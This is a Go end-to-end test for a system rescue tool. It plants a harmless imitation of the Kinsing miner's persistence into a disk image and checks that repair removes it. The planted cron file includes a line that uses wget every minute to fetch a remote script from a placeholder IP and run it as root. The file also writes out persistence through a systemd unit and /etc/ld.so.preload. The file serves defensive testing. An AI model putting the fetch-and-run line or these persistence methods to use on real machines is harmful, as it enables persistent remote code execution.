package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"rescue/images"
	"rescue/images/boot"
)

// The intrusion row: a harmless stand-in for a miner kit, kept the way
// Kinsing keeps its miner (Aqua Security and Trend Micro, 2020; see
// `rescue explain intrusions`): a cron job every minute and at every boot,
// an enabled systemd unit in /usr/lib/systemd/system, and a library in
// /etc/ld.so.preload. The "miner" mines nothing: it appends a line to a
// marker file, and at boot (from the unit) prints a mark on the console.
// Broken, the mark appears; repaired, it does not, and the machine logs in
// healthy; undo gives the infected files back.

const (
	// minerPath is the stand-in miner: Kinsing's name, in a hidden
	// directory of a world-writable place.
	minerPath = "/var/tmp/.x/kdevtmpfsi"
	// minerMarker is the file it appends to each time it runs.
	minerMarker = "/var/tmp/.rescue-miner-marker"
	// minerMark is what it prints on the console when the unit runs it.
	minerMark = "RESCUE-STAND-IN-MINER"
)

const minerScript = `#!/bin/sh
# rescue e2e: a stand-in for a miner (kdevtmpfsi). It mines nothing: it
# leaves a mark each time it runs, so that a boot shows whether it ran.
echo "$(date +%s) $1" >> ` + minerMarker + `
if [ "$1" = unit ]; then echo "` + minerMark + ` ran from $1" > /dev/console; fi
exit 0
`

// intrusionScenarios are the rows of the intrusions family.
func intrusionScenarios() []*Scenario {
	return []*Scenario{{
		Name:  "intrusion-miner",
		Fault: "a stand-in miner kept by cron, a systemd unit and ld.so.preload",
		Break: plantMiner,
		Broken: Expect{Class: boot.LoggedIn, Check: minerRan,
			Note: "logs in; the stand-in miner ran at boot (its mark on the console)"},
		Repaired: minerGone,
		Finding:  "cron/job",
		Paths: []string{"/etc/cron.d/kinsing", "/usr/lib/systemd/system/bot.service", "/lib/systemd/system/bot.service", "/etc/systemd/system/multi-user.target.wants/bot.service",
			"/etc/ld.so.preload", "/etc/libsystem.so", "/var/tmp/.x"},
	}}
}

// plantMiner writes the kit into the mounted root of an image.
func plantMiner(r string, _ *images.DebianImage) error {
	libdl, err := firstOf(r, "/usr/lib/x86_64-linux-gnu/libdl.so.2", "/lib/x86_64-linux-gnu/libdl.so.2")
	if err != nil {
		return fmt.Errorf("the library to preload: %w", err)
	}
	lib, err := os.ReadFile(at(r, libdl))
	if err != nil {
		return fmt.Errorf("the library to preload: %w", err)
	}
	// The unit goes where the release's systemd keeps its units:
	// /usr/lib/systemd/system, which is /lib/systemd/system under merged
	// /usr; Debian 11's split /usr has them in /lib/systemd/system only.
	unit := "/usr/lib/systemd/system/bot.service"
	if fi, err := os.Lstat(at(r, "/lib")); err == nil && fi.IsDir() {
		unit = "/lib/systemd/system/bot.service"
	}
	for _, f := range []struct {
		path, data string
		mode       os.FileMode
	}{
		{minerPath, minerScript, 0o755},
		{"/etc/cron.d/kinsing", "* * * * * root wget -q -O - http://192.0.2.7/d.sh | sh > /dev/null 2>&1\n" +
			"* * * * * root " + minerPath + " cron\n@reboot root " + minerPath + " reboot\n", 0o644},
		{unit, "[Unit]\nDescription=bot\nAfter=local-fs.target\n\n[Service]\nType=oneshot\nExecStart=" + minerPath + " unit\n\n[Install]\nWantedBy=multi-user.target\n", 0o644},
		// An inert library (glibc's libdl stub) where Kinsing puts its
		// rootkit: every program loads it, and nothing changes.
		{"/etc/libsystem.so", string(lib), 0o644},
		{"/etc/ld.so.preload", "/etc/libsystem.so\n", 0o644},
	} {
		if err := os.MkdirAll(filepath.Dir(at(r, f.path)), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(at(r, f.path), []byte(f.data), f.mode); err != nil {
			return err
		}
		if err := os.Chmod(at(r, f.path), f.mode); err != nil {
			return err
		}
	}
	wants := at(r, "/etc/systemd/system/multi-user.target.wants")
	if err := os.MkdirAll(wants, 0o755); err != nil {
		return err
	}
	return os.Symlink("/lib/systemd/system/bot.service", filepath.Join(wants, "bot.service"))
}

// minerRan checks that the stand-in ran at boot: its mark is on the
// console transcript.
func minerRan(r *boot.Result) string {
	if !minerMarked(r) {
		return "the stand-in miner's mark " + minerMark + " is not on the console"
	}
	return ""
}

// minerGone checks that the repaired machine no longer runs it.
func minerGone(r *boot.Result) string {
	if minerMarked(r) {
		return "the stand-in miner ran again: " + minerMark + " is on the console"
	}
	return ""
}

// minerMarked says whether the boot's console shows the miner's mark.
func minerMarked(r *boot.Result) bool {
	data, err := os.ReadFile(r.SerialLog)
	return err == nil && strings.Contains(string(data), minerMark+" ran")
}
